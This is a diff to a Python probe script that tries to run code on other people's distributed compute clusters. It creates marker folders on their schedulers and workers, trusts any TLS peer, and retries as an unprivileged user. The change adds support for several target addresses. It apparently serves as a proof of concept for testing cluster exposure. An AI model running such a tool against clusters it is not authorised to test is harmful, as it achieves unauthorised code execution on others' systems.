@@ -1,8 +1,9 @@
-"""A program that tries to run code in somebody else's cluster: ADDRESS FOLDER [CERTIFICATE].
+"""A program that tries to run code in clusters of others: FOLDER ADDRESS[=CERTIFICATE]...
 
-Where it succeeds it makes the folders FOLDER/USER-scheduler and FOLDER/USER-worker. It tries first
-as the user who starts it, then, if that is root, as a user who owns nothing. With an address
-`tls://...` it presents the certificate and trusts whoever answers.
+Where it succeeds it makes the folders FOLDER/WAY-USER-scheduler and FOLDER/WAY-USER-worker, WAY the
+number of the address, from 0. It tries first as the user who starts it, then, if that is root, as a
+user who owns nothing. With an address `tls://...` it presents the certificate and trusts whoever
+answers.
 """
 
 from __future__ import annotations
@@ -42,18 +43,20 @@ def attack(address: str, security: Security, path: str) -> None:
         client.run(os.makedirs, f"{path}-worker", exist_ok=True)
 
 
-def main(address: str, folder: str, *certificate: str) -> None:
-    security = Careless(*certificate)
+def main(folder: str, *ways: str) -> None:
+    parts = [way.split("=") for way in ways]
+    doors = [(address, Careless(*certificate)) for address, *certificate in parts]
     for user in [os.getuid()] + [NOBODY] * (os.getuid() == 0):
         if user != os.getuid():  # all is imported by now, from wherever root alone may read it
             os.setgroups([])
             os.setgid(user)
             os.setuid(user)
-        try:
-            attack(address, security, f"{folder}/{user}")
-            print(user, "came in")
-        except Exception as error:
-            print(user, "was refused:", type(error).__name__, error)
+        for way, (address, security) in enumerate(doors):
+            try:
+                attack(address, security, f"{folder}/{way}-{user}")
+                print(way, user, "came in")
+            except Exception as error:
+                print(way, user, "was refused:", type(error).__name__, error)
 
 
 if __name__ == "__main__":
